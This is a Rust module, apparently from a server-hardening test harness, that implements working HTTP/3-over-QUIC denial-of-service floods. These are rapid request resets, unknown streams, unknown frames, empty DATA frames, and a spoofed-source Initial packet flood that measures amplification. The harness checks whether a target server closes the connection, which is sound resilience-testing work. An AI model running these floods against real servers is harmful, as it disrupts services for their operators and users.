//! Attacks over QUIC: HTTP/3 that no honest visitor speaks, and first packets whose senders never hear an
//! answer.
//!
//! What is said is written by hand, packets are quinn's. Called by [`super`]; read next: [`ATTACKS`].

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use quinn::crypto::rustls::QuicClientConfig;
use quinn::{ClientConfig, Connection, ConnectionError, Endpoint, SendStream, VarInt};

use super::tcp::Fared;

/// How long an attacker goes on.
const PATIENCE: Duration = Duration::from_secs(25);

/// Streams and frames of a flood: several times what a limit lets pass.
const PIECES: u32 = 3_000;

/// HTTP/3's code for a request given up (RFC 9114 §8.1).
const CANCELLED: VarInt = VarInt::from_u32(0x10c);

/// Whom attacks go to.
#[derive(Clone)]
pub(super) struct Victim {
    pub(super) address: SocketAddr,
    pub(super) tls: Arc<rustls::ClientConfig>,
}

/// One attack on a connection of its own.
#[derive(Clone, Copy, Debug)]
pub(super) enum Attack {
    /// Requests begun and given up.
    Resets,
    /// Streams of types that nobody knows.
    UnknownStreams,
    /// Frames of types that nobody knows, on the control stream.
    UnknownFrames,
    /// Pieces of a body with nothing in them.
    EmptyData,
}

/// Each with its name and the word that it is counted under.
pub(super) const ATTACKS: [(&str, &str, Attack); 4] = [
    ("resets over HTTP/3", "resets", Attack::Resets),
    ("unknown streams over HTTP/3", "resets", Attack::UnknownStreams),
    ("unknown frames over HTTP/3", "frame_flood", Attack::UnknownFrames),
    ("empty DATA over HTTP/3", "empty_data_flood", Attack::EmptyData),
];

/// A GET of `a.example` by the static table of QPACK (RFC 9204, appendix A), as one HEADERS frame.
const REQUEST: &[u8] = b"\x01\x10\x00\x00\xd1\xd7\x50\x09a.example\xc1";

fn client(victim: &Victim) -> Result<ClientConfig> {
    let mut tls = rustls::ClientConfig::clone(&victim.tls);
    tls.alpn_protocols = vec![b"h3".to_vec()];
    Ok(ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls).context("TLS 1.3 is not there")?)))
}

fn block_on<T>(work: impl Future<Output = Result<T>>) -> Result<T> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async { tokio::time::timeout(PATIENCE, work).await.context("it takes too long")? })
}

fn endpoint(victim: &Victim) -> Result<Endpoint> {
    let mut endpoint = Endpoint::client((Ipv4Addr::LOCALHOST, 0).into())?;
    endpoint.set_default_client_config(client(victim)?);
    Ok(endpoint)
}

/// A connection with its control stream, which must stay open.
async fn greet(endpoint: &Endpoint, victim: &Victim) -> Result<(Connection, SendStream)> {
    let quic = endpoint.connect(victim.address, "a.example")?.await.context("no connection")?;
    let mut control = quic.open_uni().await?;
    control.write_all(&[0, 4, 0]).await?; // its type, and SETTINGS without any
    Ok((quic, control))
}

/// Whether a visitor who means it is answered.
pub(super) fn is_served(victim: &Victim) -> bool {
    let asked = block_on(async {
        let endpoint = endpoint(victim)?;
        let (quic, _control) = greet(&endpoint, victim).await?;
        let (mut sending, mut receiving) = quic.open_bi().await?;
        sending.write_all(REQUEST).await?;
        sending.finish()?;
        Ok(receiving.read_to_end(64 * 1024).await?)
    });
    // A HEADERS frame comes first.
    asked.is_ok_and(|answer| answer.first() == Some(&1))
}

/// Attacks until the other side closes the connection.
///
/// # Errors
/// When no connection comes about.
pub(super) fn attack(victim: &Victim, attack: Attack) -> Result<Fared> {
    block_on(async {
        let endpoint = endpoint(victim)?;
        let (quic, mut control) = greet(&endpoint, victim).await?;
        // Its errors are the end that is waited for.
        let _ended = flood(&quic, &mut control, attack).await;
        Ok(match tokio::time::timeout(PATIENCE / 2, quic.closed()).await {
            Ok(ConnectionError::ApplicationClosed(_) | ConnectionError::ConnectionClosed(_)) => Fared::Ended,
            _ => Fared::WentOn,
        })
    })
}

async fn flood(quic: &Connection, control: &mut SendStream, attack: Attack) -> Result<()> {
    match attack {
        Attack::Resets => {
            for _ in 0..PIECES {
                let (mut sending, _unread) = quic.open_bi().await?;
                sending.write_all(REQUEST).await?;
                sending.reset(CANCELLED)?;
                tokio::task::yield_now().await;
            }
        }
        Attack::UnknownStreams => {
            for _ in 0..PIECES {
                let mut sending = quic.open_uni().await?;
                sending.write_all(&[0x21]).await?;
                sending.finish()?;
            }
        }
        Attack::UnknownFrames => {
            for _ in 0..PIECES {
                control.write_all(&[0x21, 0].repeat(512)).await?;
            }
        }
        Attack::EmptyData => {
            let (mut sending, _unread) = quic.open_bi().await?;
            sending.write_all(REQUEST).await?;
            for _ in 0..PIECES {
                sending.write_all(&[0, 0]).await?;
            }
        }
    }
    Ok(())
}

/// What first packets without an answer brought about.
pub(super) struct Initials {
    /// Packets sent, and their bytes.
    pub(super) sent: u64,
    pub(super) bytes: u64,
    /// Bytes that came back to where they seemed to come from.
    pub(super) back_bytes: u64,
}

/// Sends the first packets of so many handshakes from a socket that passes no answer on, as one does whose
/// address is forged.
///
/// # Errors
/// When there is no socket.
pub(super) fn initials(victim: &Victim, count: u32) -> Result<Initials> {
    let relay = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0))?;
    relay.set_nonblocking(true)?;
    let at = relay.local_addr()?;
    block_on(async {
        let relay = tokio::net::UdpSocket::from_std(relay)?;
        let endpoint = endpoint(victim)?;
        let mut told = Initials { sent: 0, bytes: 0, back_bytes: 0 };
        let mut connecting = Vec::new();
        let mut packet = vec![0; 2048];
        for _ in 0..count {
            connecting.push(endpoint.connect(at, "a.example")?);
        }
        let pass = async {
            loop {
                let (length, from) = relay.recv_from(&mut packet).await?;
                if from == victim.address {
                    told.back_bytes += length as u64;
                } else if told.sent < u64::from(count) {
                    told.sent += 1;
                    told.bytes += length as u64;
                    relay.send_to(packet.get(..length).unwrap_or_default(), victim.address).await?;
                }
            }
        };
        // Packets that were lost between the sockets are sent again by quinn; a while after the last, what
        // was to come back is back.
        let ended: Result<Result<()>, _> = tokio::time::timeout(Duration::from_secs(3), pass).await;
        if let Ok(Err(error)) = ended {
            return Err(error);
        }
        drop(connecting);
        Ok(told)
    })
}
